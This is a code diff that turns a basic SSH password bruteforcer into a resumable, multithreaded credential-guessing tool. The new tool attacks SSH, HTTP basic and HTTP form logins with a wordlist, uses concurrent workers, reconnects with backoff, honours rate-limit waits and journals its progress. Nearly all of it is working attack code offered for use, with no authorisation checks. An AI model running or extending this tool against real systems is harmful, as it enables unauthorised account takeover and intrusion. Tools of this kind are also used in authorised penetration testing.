@@ -1,38 +1,353 @@
-import paramiko
-import sys
+import argparse
+import json
 import os
+import queue
+import sys
+import threading
+import time
+
+import probelog
+from protocols import PROTOCOLS, FatalError, SSHProtocol
 
-target = str(input('Please enter target IP address: '))
-username = str(input('Please enter username to bruteforce: '))
-password_file = str(input('Please enter location of the password file: '))
+# Session journal: remembers how far into the password file each (target, user)
+# got, so an interrupted run can pick up where it stopped with --resume.
+JOURNAL_FILE = 'bruteforce_session.json'
+CHECKPOINT_EVERY = 25        # attempts between journal writes
+CHECKPOINT_INTERVAL = 5.0    # ...or seconds, whichever comes first
+PROGRESS_INTERVAL = 2.0
 
 
-def ssh_connect(password, code=0):
-    ssh = paramiko.SSHClient()
-    ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+def session_key(target, username, port=22, protocol='ssh'):
+    key = f'{target}:{port}|{username}'
+    # ssh keys keep the original format so old journals still resume
+    return key if protocol == 'ssh' else f'{protocol}://{key}'
 
+
+def load_journal(path):
     try:
-        ssh.connect(target, port=22, username=username, password=password)
-    except paramiko.AuthenticationException:
-        code = 1
-    ssh.close()
-    return code
+        with open(path, 'r') as file:
+            return json.load(file)
+    except FileNotFoundError:
+        return {}
+    except json.JSONDecodeError:
+        print(f'warning: journal {path} is corrupt, starting fresh')
+        return {}
+
+
+def save_journal(path, journal):
+    # Write to a temporary file and rename it over the old journal so a crash
+    # mid-write never leaves a half-written (unreadable) session behind.
+    tmp_path = path + '.tmp'
+    with open(tmp_path, 'w') as file:
+        json.dump(journal, file, indent=2)
+        file.flush()
+        os.fsync(file.fileno())
+    os.replace(tmp_path, path)
+
+
+def decode_password(raw):
+    try:
+        return raw.decode('utf-8')
+    except UnicodeDecodeError:
+        return raw.decode('latin-1')
+
+
+def read_passwords(file):
+    # Yields (password, offset just past its line) from the current position.
+    for raw in iter(file.readline, b''):
+        yield decode_password(raw.strip()), file.tell()
 
 
-with open(password_file, 'r') as file:
-    for line in file.readlines():
-        password = line.strip()
+class Engine:
+    """Credential-testing engine shared by every protocol backend.
+
+    Worker threads each hold their own connection, reuse it for up to
+    protocol.tries_per_connection attempts, and reconnect with exponential
+    backoff when it breaks. Passwords are handed out in file order through a
+    bounded queue, so the wordlist is never loaded into memory.
+    """
+
+    def __init__(self, protocol, workers=4, retries=3, backoff=0.5, verbose=False):
+        self.protocol = protocol
+        self.workers = workers
+        self.retries = retries
+        self.backoff = backoff
+        self.verbose = verbose
+
+        self.found = None
+        self.fatal = None
+        self.gave_up = None     # password that kept erroring, which stops the run
+        self.stop = threading.Event()
+        self.attempts = 0
+        self.errors = 0
+        self.lock = threading.Lock()
+
+        # Finished sequence numbers past the watermark. The watermark is the
+        # last seq that has itself and everything before it finished, so its
+        # offset is always safe to resume from.
+        self.done = set()
+        self.offsets = {}
+        self.watermark = -1
+        self.resume_offset = None
+
+    def _complete(self, seq):
+        with self.lock:
+            self.attempts += 1
+            self.done.add(seq)
+            while self.watermark + 1 in self.done:
+                self.watermark += 1
+                self.done.discard(self.watermark)
+                self.resume_offset = self.offsets.pop(self.watermark)
+
+    def _drop(self, state):
+        if state['conn'] is not None:
+            try:
+                self.protocol.close(state['conn'])
+            except Exception:
+                pass
+            state['conn'] = None
+
+    def _log(self, start, status, username, **fields):
+        probelog.record(self.protocol.name, f'{self.protocol.target}:{self.protocol.port}',
+                        time.perf_counter() - start, status, None, username=username, **fields)
+
+    def _attempt(self, state, username, password):
+        # True/False for an answer from the server, None if every retry failed.
+        for attempt in range(self.retries + 1):
+            start = time.perf_counter()
+            try:
+                if state['conn'] is None:
+                    state['conn'] = self.protocol.connect()
+                    state['uses'] = 0
+                state['uses'] += 1
+                ok = self.protocol.try_credential(state['conn'], username, password)
+                # Passwords are deliberately left out of the log.
+                self._log(start, 'success' if ok else 'fail', username)
+                if ok or state['uses'] >= self.protocol.tries_per_connection:
+                    self._drop(state)
+                return ok
+            except FatalError as e:
+                self._log(start, 'fatal', username, error=str(e))
+                self._drop(state)
+                raise
+            except Exception as e:
+                self._log(start, 'error', username, error=type(e).__name__)
+                self._drop(state)
+                if self.verbose:
+                    print(f'{self.protocol}: {e!r}, retry {attempt + 1}/{self.retries}')
+                if attempt < self.retries and not self.stop.is_set():
+                    # RetryLater (e.g. HTTP 429) says how long to wait at least.
+                    time.sleep(max(getattr(e, 'delay', 0), self.backoff * 2 ** attempt))
+        with self.lock:
+            self.errors += 1
+        print(f'giving up on password {password!r} after {self.retries} retries')
+        return None
+
+    def _worker(self, work, username):
+        state = {'conn': None, 'uses': 0}
+        try:
+            while True:
+                item = work.get()
+                if item is None:
+                    return
+                seq, password = item
+                if self.stop.is_set():
+                    continue
+                try:
+                    ok = self._attempt(state, username, password)
+                except FatalError as e:
+                    self.fatal = e
+                    self.stop.set()
+                    continue
+                if ok is None:
+                    # Never answered: leave it unfinished so the watermark (and
+                    # a later --resume) stays on it, and stop rather than skip it.
+                    self.gave_up = password
+                    self.stop.set()
+                    continue
+                if ok:
+                    self.found = password
+                    self.stop.set()
+                    print('password found: ' + password)
+                elif self.verbose:
+                    print('no luck: ' + password)
+                self._complete(seq)
+        finally:
+            self._drop(state)
+
+    def run(self, username, passwords, on_progress=None):
+        """Tries every (password, offset) pair; returns the password found or None."""
+        work = queue.Queue(maxsize=self.workers * 4)
+        threads = [threading.Thread(target=self._worker, args=(work, username), daemon=True)
+                   for _ in range(self.workers)]
+        for t in threads:
+            t.start()
 
+        start = last_report = time.monotonic()
         try:
-            response = ssh_connect(password)
-
-            if response == 0:
-                print('password found: ' + password)
-                exit(0)
-            elif response == 1:
-                print('no luck')
-        except Exception as e:
-            print(e)
-        pass
-
-input_file.close()
\ No newline at end of file
+            for seq, (password, offset) in enumerate(passwords):
+                if self.stop.is_set():
+                    break
+                with self.lock:
+                    self.offsets[seq] = offset
+                while not self.stop.is_set():
+                    try:
+                        work.put((seq, password), timeout=0.2)
+                        break
+                    except queue.Full:
+                        pass
+                now = time.monotonic()
+                if now - last_report >= PROGRESS_INTERVAL:
+                    last_report = now
+                    self.report(now - start)
+                    if on_progress:
+                        on_progress(self)
+        except BaseException:
+            self.stop.set()
+            raise
+        finally:
+            for _ in threads:
+                work.put(None)
+            for t in threads:
+                t.join()
+        self.report(time.monotonic() - start)
+
+        if self.fatal is not None:
+            raise self.fatal
+        return self.found
+
+    def report(self, elapsed):
+        rate = self.attempts / elapsed if elapsed > 0 else 0.0
+        print(f'[{self.protocol}] {self.attempts} attempts, {rate:.1f}/s, {self.errors} errors')
+
+
+def bruteforce(target, username, password_file, port=22, journal_path=JOURNAL_FILE,
+               resume=False, checkpoint_every=CHECKPOINT_EVERY, protocol=None,
+               workers=1, retries=3, verbose=True):
+    protocol = protocol or SSHProtocol(target, port)
+    journal = load_journal(journal_path)
+    key = session_key(protocol.target, username, protocol.port, protocol.name)
+    password_file = os.path.abspath(password_file)
+
+    offset = 0
+    attempts = 0
+    entry = journal.get(key)
+    if resume and entry:
+        if entry.get('password_file') != password_file:
+            print(f'journal entry for {key} used {entry.get("password_file")}, not resuming')
+        elif entry.get('status') == 'found':
+            print('password already found in a previous session: ' + entry['password'])
+            return entry['password']
+        else:
+            offset = entry.get('offset', 0)
+            attempts = entry.get('attempts', 0)
+            print(f'resuming {key} at byte {offset} ({attempts} attempts done)')
+
+    entry = {
+        'password_file': password_file,
+        'offset': offset,
+        'attempts': attempts,
+        'status': 'running',
+    }
+    journal[key] = entry
+
+    engine = Engine(protocol, workers=workers, retries=retries, verbose=verbose)
+    saved = {'attempts': 0, 'time': time.monotonic()}
+
+    def checkpoint(force=False):
+        # Only the contiguous prefix of finished passwords counts, so a resume
+        # never skips a password that was still in flight when we stopped.
+        with engine.lock:
+            if engine.resume_offset is not None:
+                entry['offset'] = engine.resume_offset
+            done = engine.attempts
+        entry['attempts'] = attempts + done
+        if (force or done - saved['attempts'] >= checkpoint_every
+                or time.monotonic() - saved['time'] >= CHECKPOINT_INTERVAL):
+            entry['updated'] = time.time()
+            save_journal(journal_path, journal)
+            saved['attempts'] = done
+            saved['time'] = time.monotonic()
+
+    def passwords(file):
+        for item in read_passwords(file):
+            yield item
+            checkpoint()
+
+    found = None
+    # Binary mode so f.tell() is a real byte offset we can seek() back to.
+    with open(password_file, 'rb') as file:
+        file.seek(offset)
+        try:
+            found = engine.run(username, passwords(file))
+            if found is not None:
+                entry['status'] = 'found'
+                entry['password'] = found
+            elif engine.gave_up is not None:
+                entry['status'] = 'error'
+                print(f'stopped: no answer for password {engine.gave_up!r}; '
+                      f'--resume continues from it')
+            else:
+                entry['status'] = 'exhausted'
+        finally:
+            checkpoint(force=True)
+
+    return found
+
+
+def parse_args():
+    parser = argparse.ArgumentParser(description='Password bruteforcer with resumable sessions')
+    parser.add_argument('-t', '--target', help='target IP address')
+    parser.add_argument('-u', '--username', help='username to bruteforce')
+    parser.add_argument('-w', '--wordlist', help='location of the password file')
+    parser.add_argument('-p', '--port', type=int, help='port (default depends on protocol)')
+    parser.add_argument('-P', '--protocol', choices=sorted(PROTOCOLS), default='ssh')
+    parser.add_argument('-c', '--workers', type=int, default=4, help='concurrent connections')
+    parser.add_argument('--retries', type=int, default=3)
+    parser.add_argument('--path', help='request path for http-basic / http-form')
+    parser.add_argument('--https', action='store_true')
+    parser.add_argument('--user-field', default='username', help='http-form username field')
+    parser.add_argument('--pass-field', default='password', help='http-form password field')
+    parser.add_argument('--fail-text', help='http-form text shown on failed login')
+    parser.add_argument('--resume', action='store_true',
+                        help='continue from the offset recorded in the session journal')
+    parser.add_argument('--journal', default=JOURNAL_FILE, help='session journal file')
+    parser.add_argument('--checkpoint', type=int, default=CHECKPOINT_EVERY,
+                        help='attempts between journal writes')
+    parser.add_argument('-q', '--quiet', action='store_true', help='do not print failed attempts')
+    probelog.add_arguments(parser)
+    return parser.parse_args()
+
+
+def make_protocol(args, target):
+    cls = PROTOCOLS[args.protocol]
+    if args.protocol == 'http-basic':
+        return cls(target, args.port, path=args.path or '/', https=args.https)
+    if args.protocol == 'http-form':
+        return cls(target, args.port, path=args.path or '/login', https=args.https,
+                   user_field=args.user_field, pass_field=args.pass_field,
+                   fail_text=args.fail_text)
+    return cls(target, args.port)
+
+
+if __name__ == '__main__':
+    args = parse_args()
+
+    # Anything not given on the command line is still asked for interactively.
+    target = args.target or str(input('Please enter target IP address: '))
+    username = args.username or str(input('Please enter username to bruteforce: '))
+    password_file = args.wordlist or str(input('Please enter location of the password file: '))
+
+    protocol = make_protocol(args, target)
+    probelog.configure_from_args(args)
+    try:
+        result = bruteforce(target, username, password_file, protocol.port, args.journal,
+                            args.resume, args.checkpoint, protocol=protocol,
+                            workers=args.workers, retries=args.retries, verbose=not args.quiet)
+    except KeyboardInterrupt:
+        print('\ninterrupted, progress saved to ' + args.journal)
+        sys.exit(130)
+    except FatalError as e:
+        print(f'{protocol}: {e}')
+        sys.exit(2)
+    sys.exit(0 if result is not None else 1)